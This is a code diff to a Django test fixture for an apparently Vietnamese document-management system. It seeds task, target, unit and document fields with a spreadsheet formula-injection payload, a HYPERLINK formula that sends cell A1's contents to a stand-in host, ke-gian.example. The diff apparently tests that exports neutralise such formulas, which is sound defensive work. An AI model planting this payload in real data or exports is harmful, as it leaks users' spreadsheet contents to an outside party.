@@ -49,6 +49,11 @@ def marker(unit: Unit) -> str:
     return marker_of(unit.code)
 
 
+def formula(text: str) -> str:
+    """A text a spreadsheet would run as a formula if an export wrote it as one (formula injection)."""
+    return f'=HYPERLINK("http://ke-gian.example/?q="&A1,"{text}")'
+
+
 @dataclass
 class World:
     users: dict[str, User]
@@ -139,7 +144,7 @@ def build_world(cast: dict[str, User], units: dict[str, Unit]) -> World:
         kind=UnitKind.DEPARTMENT,
     )
     other = Unit.objects.create(
-        code=f"{OTHER_ORG}-P1", name=f"Phòng Một {marker_of(f'{OTHER_ORG}-P1')}", abbreviation="P1",
+        code=f"{OTHER_ORG}-P1", name=formula(f"Phòng Một {marker_of(f'{OTHER_ORG}-P1')}"), abbreviation="P1",
         kind=UnitKind.DIVISION, parent=other_root,
     )  # fmt: skip
     places = {"QLVH": units["QLVH"], "QLDL": units["QLDL"], "VP": units["VP"], "X": other}
@@ -170,10 +175,14 @@ def build_world(cast: dict[str, User], units: dict[str, Unit]) -> World:
             directive=directive,
             unit=unit,
             number="1",
-            summary=f"Nhiệm vụ {m}",
+            summary=formula(f"Nhiệm vụ {m}"),
             deadline=today + dt.timedelta(days=60),
         )
-        Target.objects.create(task=task, metric=f"chỉ tiêu {m}", value=Decimal(10))
+        Task.objects.create(  # overdue: the overdue list and its export have a row
+            directive=directive, unit=unit, number="2", summary=formula(f"Quá hạn {m}"),
+            deadline=today - dt.timedelta(days=30),
+        )  # fmt: skip
+        Target.objects.create(task=task, metric=formula(f"chỉ tiêu {m}"), text=formula(m), value=Decimal(10))
         ExtensionRequest.objects.create(
             task=task, requested_by=staff, new_deadline=today + dt.timedelta(days=90), reason=f"lý do {m}"
         )
@@ -195,7 +204,7 @@ def build_world(cast: dict[str, User], units: dict[str, Unit]) -> World:
         doc.save()
         put("documents.OutgoingDocument", place, doc)
         issued = OutgoingDocument.objects.create(
-            doc_type="CONG_VAN", unit=unit, organisation=root, subject=f"Đã ban hành {m}", body="Nội dung.",
+            doc_type="CONG_VAN", unit=unit, organisation=root, subject=formula(f"Đã ban hành {m}"), body="Nội dung.",
             signatory_name="Trần Mạnh Hùng", signatory_position="Giám đốc", created_by=admin,
             status=Status.ISSUED, year=today.year, number=len(world.objects["org.Unit"]), symbol=f"SVHTTDL-{place}",
             issue_date=today, is_electronic=True, digitally_signed=True,
@@ -205,7 +214,7 @@ def build_world(cast: dict[str, User], units: dict[str, Unit]) -> World:
         )
         incoming = IncomingDocument.objects.create(
             register=register, organisation=root, year=today.year, arrival_number=len(world.objects["org.Unit"]),
-            arrival_date=today, author="UBND tỉnh", subject=f"Văn bản đến {m}", receiving_unit=unit, created_by=admin,
+            arrival_date=today, author=formula("UBND tỉnh"), subject=formula(f"Văn bản đến {m}"), receiving_unit=unit, created_by=admin,
         )  # fmt: skip
         incoming.pdf.save(f"den-{place}.pdf", ContentFile(b"%PDF-1.7\n%%EOF\n"))
         put("documents.IncomingDocument", place, incoming)
